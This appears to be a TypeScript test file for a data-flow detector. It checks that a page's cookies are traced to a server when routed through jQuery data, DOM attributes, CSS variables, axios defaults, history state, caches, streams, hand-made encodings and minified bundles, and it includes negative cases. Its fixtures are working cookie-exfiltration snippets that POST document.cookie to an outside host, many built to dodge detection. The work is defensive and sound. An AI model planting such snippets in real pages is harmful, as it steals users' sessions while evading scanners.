import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { flowsBetween } from '../../../testing/flows-between.ts';
import { sentKinds } from '../../../testing/sent-kinds.ts';

const post = (value: string): string =>
  `fetch('https://in.a.dev/a', { method: 'POST', body: JSON.stringify(${value}) })`;

/** Places of a page, objects of libraries and forms of bundlers that hold a page's cookies on their way to a server. */
const thefts: Readonly<Record<string, string>> = {
  'ts private full': `var __classPrivateFieldSet = (this && this.__classPrivateFieldSet) || function (receiver, state, value, kind, f) { if (kind === "m") throw new TypeError("x"); if (kind === "a" && !f) throw new TypeError("y"); if (typeof state === "function" ? receiver !== state || !f : !state.has(receiver)) throw new TypeError("z"); return (kind === "a" ? f.call(receiver, value) : f ? f.value = value : state.set(receiver, value)), value; }; var __classPrivateFieldGet = (this && this.__classPrivateFieldGet) || function (receiver, state, kind, f) { if (kind === "a" && !f) throw new TypeError("x"); return kind === "m" ? f : kind === "a" ? f.call(receiver) : f ? f.value : state.get(receiver); }; var _S_l; class S { constructor() { _S_l.set(this, void 0); __classPrivateFieldSet(this, _S_l, {text}, "f"); } go() { ${post('__classPrivateFieldGet(this, _S_l, "f")')} } } _S_l = new WeakMap(); new S().go();`,
  'jq data': `$('body').data('k', {text}); ${post("$('body').data('k')")};`,
  'jq data var': `var b = jQuery('#x'); b.data('k', {text}); ${post("b.data('k')")};`,
  'jq data obj': `$('#a').data({ k: {text} }); ${post("$('#a').data('k')")};`,
  'jq static data': `$.data(document.body, 'k', {text}); ${post("$.data(document.body, 'k')")};`,
  'jq attr': `$('#a').attr('data-k', {text}); ${post("$('#a').attr('data-k')")};`,
  'jq attr data': `$('#a').attr('data-k', {text}); ${post("$('#a').data('k')")};`,
  'jq prop': `$('#a').prop('k', {text}); ${post("$('#a').prop('k')")};`,
  'dataset body': `document.body.dataset.x = {text}; ${post('document.body.dataset.x')};`,
  'dataset html other fn': `function a() { document.documentElement.dataset.tide = {text}; } function b() { ${post('document.documentElement.dataset.tide')} } a(); setTimeout(b, 9);`,
  'dataset attr': `document.body.dataset.tideTime = {text}; ${post("document.body.getAttribute('data-tide-time')")};`,
  'attr dataset': `document.body.setAttribute('data-tide', {text}); ${post('document.body.dataset.tide')};`,
  attr: `document.body.setAttribute('data-tide', {text}); ${post("document.body.getAttribute('data-tide')")};`,
  'attr own': `const e = document.createElement('i'); e.setAttribute('x-t', {text}); ${post("e.getAttribute('x-t')")};`,
  'attr by id': `const e = document.createElement('i'); e.id = 'tt'; e.setAttribute('x-t', {text}); document.body.append(e); setTimeout(() => { ${post("document.getElementById('tt').getAttribute('x-t')")} }, 9);`,
  'css var': `document.body.style.setProperty('--x', {text}); ${post("document.body.style.getPropertyValue('--x')")};`,
  'css var computed': `document.body.style.setProperty('--x', {text}); ${post("getComputedStyle(document.body).getPropertyValue('--x')")};`,
  'axios defaults header': `axios.defaults.headers.common['X-C'] = {text}; axios.get('https://in.a.dev/a');`,
  'axios defaults header post': `axios.defaults.headers.post['X-C'] = {text}; axios.post('https://in.a.dev/a', {});`,
  'axios defaults params': `axios.defaults.params = { c: {text} }; axios.get('https://in.a.dev/a');`,
  'axios create defaults': `const api = axios.create({ baseURL: 'https://in.a.dev' }); api.defaults.headers.common['X-C'] = {text}; api.get('/a');`,
  'axios create headers': `const api = axios.create({ baseURL: 'https://in.a.dev', headers: { 'X-C': {text} } }); api.get('/a');`,
  'jq ajaxSetup': `$.ajaxSetup({ headers: { 'X-C': {text} } }); $.get('https://in.a.dev/a');`,
  'jq beforeSend': `$.ajax({ url: 'https://in.a.dev/a', beforeSend: function (x) { x.setRequestHeader('X-C', {text}); } });`,
  'ky create': `const api = ky.create({ prefixUrl: 'https://in.a.dev', headers: { c: {text} } }); api.get('a');`,
  ofetch: `ofetch('https://in.a.dev/a', { method: 'POST', body: { c: {text} } });`,
  'react lazy state': `function C() { const [c] = useState(() => {text}); ${post('c')} }`,
  'vue data init': `createApp({ data() { return { c: {text} }; }, mounted() { ${post('this.c')} } });`,
  'history state': `history.pushState({ c: {text} }, ''); ${post('history.state.c')};`,
  'history replace': `history.replaceState({ c: {text} }, ''); window.addEventListener('popstate', (e) => { ${post('e.state.c')} });`,
  'history state only': `history.replaceState({ c: {text} }, ''); ${post('history.state')};`,
  hash: `location.hash = {text}; ${post('location.hash')};`,
  'hash slice': `location.hash = '#' + encodeURIComponent({text}); setTimeout(() => { ${post('location.hash.slice(1)')} }, 9);`,
  'hash hashchange': `addEventListener('hashchange', () => { ${post('location.hash')} }); location.hash = {text};`,
  title: `document.title = {text}; ${post('document.title')};`,
  'title window': `window.document.title = {text}; setTimeout(() => { ${post('document.title')} }, 9);`,
  'local var cookie': `const c = {text}; document.body.dataset.q = c; const r = document.querySelector('body').dataset.q; ${post('r')};`,
  caches: `(async () => { const k = await caches.open('a'); await k.put('/x', new Response({text})); const r = await k.match('/x'); ${post('await r.text()')} })();`,
  'caches match': `(async () => { const k = await caches.open('a'); await k.put('/x', new Response({text})); const r = await caches.match('/x'); ${post('await r.text()')} })();`,
  'caches then': `caches.open('a').then((k) => k.put('/x', new Response({text}))); caches.open('a').then((k) => k.match('/x')).then((r) => r.text()).then((t) => { ${post('t')} });`,
  sessionStorage: `sessionStorage.setItem('k', {text}); ${post("sessionStorage.getItem('k')")};`,
  localforage: `localforage.setItem('k', {text}); localforage.getItem('k').then((v) => { ${post('v')} });`,
  'js-cookie': `Cookies.set('k', {text}); ${post("Cookies.get('k')")};`,
  FileReader: `const r = new FileReader(); r.onload = () => { ${post('r.result')} }; r.readAsText(new Blob([{text}]));`,
  'FileReader e': `const r = new FileReader(); r.onload = (e) => { ${post('e.target.result')} }; r.readAsDataURL(new Blob([{text}]));`,
  'entries handlers arg': `const h = { a: (v) => { ${post('v')} } }; Object.entries(h).forEach(([k, f]) => f({text}));`,
  'call object this': `function s() { ${post('this.c')} } s.call({ c: {text} });`,
  'apply object this': `function s() { ${post('this.c')} } s.apply({ c: {text} });`,
  'bind object this': `function s() { ${post('this.c')} } s.bind({ c: {text} })();`,
  'replace fn in': `${post("'c=@'.replace('@', () => {text})")};`,
  'template fill': `const tpl = '{{c}}'; const d = { c: {text} }; ${post('tpl.replace(/{{(\\w+)}}/g, (_, k) => d[k])')};`,
  'JSON reviver': `JSON.parse(JSON.stringify({ c: {text} }), (k, v) => { ${post('v')}; return v; });`,
  'JSON reviver ret': `const o = JSON.parse('{"c":1}', (k, v) => k === 'c' ? {text} : v); ${post('o')};`,
  'JSON.stringify replacer': `JSON.stringify({ c: {text} }, (k, v) => { ${post('v')}; return v; });`,
  'typed array view': `const t = {text}; const b = new ArrayBuffer(99); const u = new Uint8Array(b); for (let i = 0; i < t.length; i++) u[i] = t.charCodeAt(i); fetch('https://in.a.dev/a', { method: 'POST', body: b });`,
  TransformStream: `const t = new TransformStream({ transform(v, c) { c.enqueue(v.toUpperCase()); } }); const w = t.writable.getWriter(); w.write({text}); (async () => { const { value } = await t.readable.getReader().read(); ${post('value')} })();`,
  'TransformStream destruct': `const { readable, writable } = new TransformStream(); writable.getWriter().write({text}); new Response(readable).text().then((t) => { ${post('t')} });`,
  'CompressionStream writer': `const cs = new CompressionStream('gzip'); const w = cs.writable.getWriter(); w.write(new TextEncoder().encode({text})); w.close(); new Response(cs.readable).arrayBuffer().then((b) => { fetch('https://in.a.dev/a', { method: 'POST', body: b }); });`,
  'table only': `const abc = 'abcdefghijklmnop'; const t = {text}; let o = ''; for (let i = 0; i < t.length; i++) o += abc[t.charCodeAt(i) % 16]; ${post('o')};`,
  'hex table': `const H = '0123456789abcdef'; const t = {text}; let o = ''; for (let i = 0; i < t.length; i++) { const c = t.charCodeAt(i); o += H[c >> 4] + H[c & 15]; } ${post('o')};`,
  'base64 by hand': `const B = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/'; function b64(t) { let o = ''; for (let i = 0; i < t.length;) { const a = t.charCodeAt(i++), b = t.charCodeAt(i++), c = t.charCodeAt(i++); const n = a << 16 | b << 8 | c; o += B.charAt(n >> 18 & 63) + B.charAt(n >> 12 & 63) + B.charAt(n >> 6 & 63) + B.charAt(n & 63); } return o; } ${post('b64({text})')};`,
  'esbuild min': `(()=>{var c=Object.defineProperty;var l=(e,t)=>()=>(e&&(t=e(e=0)),t);var u=(e,t)=>{for(var n in t)c(e,n,{get:t[n],enumerable:!0})};var f={};u(f,{send:()=>p});var p,d=l(()=>{"use strict";p=e=>{${post('e')}}});d();f.send({text})})();`,
};

/** The same where what is read is not what was put in. */
const harmless: Readonly<Record<string, string>> = {
  'another attribute': `document.body.dataset.tide = document.cookie; ${post('document.body.dataset.moon')};`,
  'another key of jQuery': `$('#a').data('k', document.cookie); ${post("$('#a').data('j')")};`,
  'another key of a session': `sessionStorage.setItem('k', document.cookie); ${post("sessionStorage.getItem('j')")};`,
  'a key of the other storage': `sessionStorage.setItem('k', document.cookie); ${post("localStorage.getItem('k')")};`,
  'another response of a cache': `(async () => { const k = await caches.open('a'); await k.put('/x', new Response(document.cookie)); ${post("await (await k.match('/y')).text()")} })();`,
  'another style': `document.body.style.setProperty('--x', document.cookie); ${post("document.body.style.getPropertyValue('--y')")};`,
  'another member of the state': `history.pushState({ c: document.cookie, n: 1 }, ''); ${post('history.state.n')};`,
  'a pattern that only cuts': `const t = document.title.replace(document.cookie, () => 'x'); ${post('document.cookie.length')}; void t;`,
  'defaults of another client':
    "const own = axios.create({ baseURL: '/' }); own.defaults.headers.common['X-C'] = document.cookie; axios.get('https://in.a.dev/a');",
  'a table that is chosen by another number': `const abc = 'abcdefghijklmnop'; let o = ''; for (let i = 0; i < document.cookie.length; i++) o += abc[i % 16]; ${post('o')};`,
  'another object that a function is called on': `function s() { ${post('this.n')} } s.call({ c: document.cookie, n: 1 });`,
  'another reader of files': `const a = new FileReader(); const b = new FileReader(); a.readAsText(new Blob([document.cookie])); b.onload = () => { ${post('b.result')} }; b.readAsText(new Blob(['x']));`,
  'another stream': `const a = new TransformStream(); const b = new TransformStream(); a.writable.getWriter().write(document.cookie); new Response(b.readable).text().then((t) => { ${post('t')} });`,
  'a view of another buffer': `const a = new ArrayBuffer(9); const b = new ArrayBuffer(9); const u = new Uint8Array(a); u[0] = document.cookie.charCodeAt(0); fetch('https://in.a.dev/a', { method: 'POST', body: b });`,
  'other data of a component': `createApp({ data() { return { c: document.cookie, n: 1 }; }, mounted() { ${post('this.n')} } });`,
  'a table with too few letters': `const t = document.cookie; const o = 'ny'[t.charCodeAt(0) & 1]; ${post('o')};`,
  'a replacement that is not put in': `JSON.parse('{"a":1}', (k, v) => { void document.cookie; return v; }); ${post("JSON.parse('{}', (k, v) => v)")};`,
};

describe('cookies are followed from a page to a server through', () => {
  for (const [name, code] of Object.entries(thefts)) {
    it(name, () => {
      assert.ok(sentKinds('page', code.replaceAll('{text}', 'document.cookie')).has('cookies'));
      const calm = code.replaceAll('{text}', '(void document.cookie, 5)');
      assert.ok(!sentKinds('page', calm).has('cookies'));
    });
  }
});

describe('cookies are not taken for what is sent by', () => {
  for (const [name, code] of Object.entries(harmless)) {
    it(name, () => {
      assert.ok(!sentKinds('page', code).has('cookies'));
    });
  }
});

it('a file of a server that is made an address leads nowhere that the server names', () => {
  const script = `fetch('https://in.a.dev/f').then((r) => r.blob()).then((blob) => {
    const r = new FileReader(); r.onloadend = () => { location.href = r.result }; r.readAsDataURL(blob) })`;
  const asText = script.replace('readAsDataURL', 'readAsText');
  const leads = (content: string): boolean =>
    flowsBetween({ 'content.js': content }).some((flow) => flow.includes('navigation'));
  assert.deepEqual([leads(script), leads(asText)], [false, true]);
});
